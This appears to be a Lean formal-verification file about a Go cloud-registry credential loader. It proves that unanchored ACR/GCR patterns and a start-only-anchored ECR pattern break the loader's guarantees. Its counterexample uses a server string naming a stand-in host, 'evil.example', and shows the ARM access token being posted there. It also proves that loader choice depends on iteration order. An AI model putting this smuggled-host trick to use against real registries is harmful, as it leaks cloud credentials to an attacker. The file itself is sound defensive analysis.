import Forge.Source.Cloud

/-!
# Where cloud credentials go, and which loader answers

Two properties of the cloud loaders, stated over the hosts that the server
string and the loaders' requests name.

* A loader that returns credentials for a server only does so for a registry
  host of its own cloud, and only talks to such a host with the cloud's token
  (`CredentialsStayInCloud`).
* At most one registered pattern matches a server, so the loader that
  `RetrieveAuthorization` picks does not depend on map iteration order
  (`PatternsDisjoint`).

Both fail on the code. The ACR and GCR patterns are unanchored, and the ECR
pattern is anchored at the start only: `FindAllString` returns the whole
`evil.example/x.azurecr.io` as ACR login server, and the ARM access token is
posted to `https://evil.example/x.azurecr.io/oauth2/exchange`, whose host is
`evil.example`. A server such as `1.dkr.ecr.r.amazonaws.com.azurecr.io.gcr.io`
matches all three patterns, and two iteration orders pick different loaders.

What does hold of the ACR loader: every request it sends, the exchange that
carries the ARM access token included, goes to a login server that is a piece
of the server string ending in one of the Azure registry domains
(`acr_requests_go_to_azure_suffix`), by the soundness of the search against
the language of `acrRegex`.

Host names follow Go's `url.Parse` and `URL.Hostname`. The remote services of
the counterexample answer as a host under the attacker's control would.
-/

namespace Forge.Guarantees.CloudHosts
open Forge.Lib.Regex Forge.Lib.Regex.Regexp Forge.Lib.Base64 Forge.Source.Cloud

/-! ## Hosts named by URLs and servers -/

/-- Drop `"ip:port"`'s port when the text after the last colon is a port. -/
def stripPort (hostPort : List Char) : List Char :=
  let port := (hostPort.reverse.takeWhile (· ≠ ':')).reverse
  if port.length < hostPort.length ∧ port.all Char.isDigit then
    hostPort.take (hostPort.length - port.length - 1)
  else hostPort

/-- `url.Parse(u).Hostname()` for an `https` URL: the authority after `://`
runs to the first `/`, `?` or `#`; the host follows its last `@`. -/
def urlHostname (url : List Char) : List Char :=
  if "https://".toList.isPrefixOf url then
    let authority := (url.drop 8).takeWhile fun c => c ≠ '/' ∧ c ≠ '?' ∧ c ≠ '#'
    stripPort (authority.reverse.takeWhile (· ≠ '@')).reverse
  else []

/-- The host a registry server string names, as the `https` URL of it does. -/
def serverHost (server : String) : List Char :=
  urlHostname ("https://" ++ server).toList

/-- A DNS name: dot-separated non-empty labels of letters, digits and hyphens. -/
def isDnsName (host : List Char) : Bool :=
  (Forge.Lib.Strings.split '.' host).all fun label =>
    !label.isEmpty && label.all fun c => c.isAlphanum || c == '-'

/-- An Azure registry host: a DNS name under one of the Azure registry domains. -/
def isAcrHost (host : List Char) : Bool :=
  isDnsName host && [".azurecr.io", ".azurecr.cn", ".azurecr.de", ".azurecr.us"].any
    fun suffix => suffix.toList.isSuffixOf host

/-- A Google registry host: `gcr.io`, a subdomain of it, or an Artifact
Registry host `*-docker.pkg.dev`. -/
def isGcrHost (host : List Char) : Bool :=
  isDnsName host && (host == "gcr.io".toList || ".gcr.io".toList.isSuffixOf host ||
    "-docker.pkg.dev".toList.isSuffixOf host)

/-- An ECR host: exactly `<account>.dkr.ecr[-fips].<region>.amazonaws.com[.cn]`,
the whole host matched by the ECR pattern. -/
def isEcrHost (host : List Char) : Bool :=
  (urlRegex.suffixes true host).contains []

/-- A registry host of the provider's own cloud. -/
def registryHostOf : Provider → List Char → Bool
  | .acr _ => isAcrHost
  | .gcr _ => isGcrHost
  | .ecr _ => isEcrHost

/-! ## Credentials stay inside their cloud -/

/-- When a loader returns credentials for a server, the server names
a registry host of the loader's cloud, and so does every request the loader
sends to the login server (the GCR realm request excepted). -/
def CredentialsStayInCloud : Prop :=
  ∀ (provider : Provider) (server : String) (auth : AuthConfig),
    (provider.authenticate server).result = .ok (some auth) →
      registryHostOf provider (serverHost server) = true ∧
      ∀ request ∈ (provider.authenticate server).requests, request.purpose ≠ .realmToken →
        registryHostOf provider (urlHostname request.url.toList) = true

def answeringAcr : AcrEnv where
  tenantID := "tenant"
  ensureFresh := fun _ => .ok ()
  backoffCancelled := fun _ => false
  contextError := "context canceled"
  oAuthToken := goBytes "arm-access-token"
  check := fun _ => .response 401
    (some ["Bearer realm=\"https://evil.example/oauth2/token\",service=\"evil.example\""]) none
  getFromExchange := fun _ _ _ _ => .ok (some (goBytes "refresh-token"))

def smuggledServer : String := "evil.example/x.azurecr.io"

/-- The ACR loader takes the whole server as login server, returns credentials,
and posts the ARM access token to it. -/
theorem acr_loader_trusts_smuggled_host :
    (acrAuthenticate answeringAcr smuggledServer).result =
      .ok (some ⟨goBytes acrUserForRefreshToken, goBytes "refresh-token", []⟩) ∧
    (acrAuthenticate answeringAcr smuggledServer).requests =
      [⟨"https://evil.example/x.azurecr.io/v2/", .challenge, none⟩,
        ⟨"https://evil.example/x.azurecr.io/oauth2/exchange", .tokenExchange,
          some (goBytes "arm-access-token")⟩] := by
  decide +kernel

theorem credentials_leave_cloud : ¬ CredentialsStayInCloud := by
  intro stays
  obtain ⟨answered, sent⟩ := acr_loader_trusts_smuggled_host
  have hosts := (stays (.acr answeringAcr) smuggledServer _ answered).2
  have exchange := hosts ⟨"https://evil.example/x.azurecr.io/oauth2/exchange", .tokenExchange,
    some (goBytes "arm-access-token")⟩ (by simp [Provider.authenticate, sent]) (by decide)
  have leaked : urlHostname "https://evil.example/x.azurecr.io/oauth2/exchange".toList =
      "evil.example".toList := by decide
  rw [leaked] at exchange
  exact absurd exchange (by decide)

/-! ## Where the ACR loader sends the token -/

/-- The patterns `StartManager` registers. -/
def registeredPatterns : List (Regexp Char) := [urlRegex, acrRegex, gcrRegex]

/-- At most one registered pattern matches any server. -/
def PatternsDisjoint : Prop :=
  ∀ server : String, (registeredPatterns.filter fun re => re.matchString server.toList).length ≤ 1

def overlapServer : String := "1.dkr.ecr.r.amazonaws.com.azurecr.io.gcr.io"

def awsDown : EcrClient := ⟨.error "aws"⟩

def azureDown : AcrEnv where
  tenantID := "tenant"
  ensureFresh := fun _ => .error "azure"
  backoffCancelled := fun _ => true
  contextError := "azure"
  oAuthToken := []
  check := fun _ => .failed "azure"
  getFromExchange := fun _ _ _ _ => .error "azure"

def googleDown : GcrEnv where
  token := .error "google"
  check := fun _ => .failed "google"
  realm := fun _ _ _ => .error "google"

def fullRegistry : Registry := startRegistry (some awsDown) (some azureDown) (some googleDown)

theorem dispatch_depends_on_iteration_order :
    ¬ PatternsDisjoint ∧
      ∃ visit₁ visit₂ : List (Regexp Char × AuthLoader),
        visit₁.Perm fullRegistry.loaders ∧ visit₂.Perm fullRegistry.loaders ∧
        (retrieveAuthorization visit₁ overlapServer).result ≠
          (retrieveAuthorization visit₂ overlapServer).result := by
  refine ⟨fun disjoint => absurd (disjoint overlapServer) (by decide +kernel), fullRegistry.loaders,
    fullRegistry.loaders.reverse, List.Perm.refl _, List.reverse_perm _, ?_⟩
  decide +kernel

end Forge.Guarantees.CloudHosts
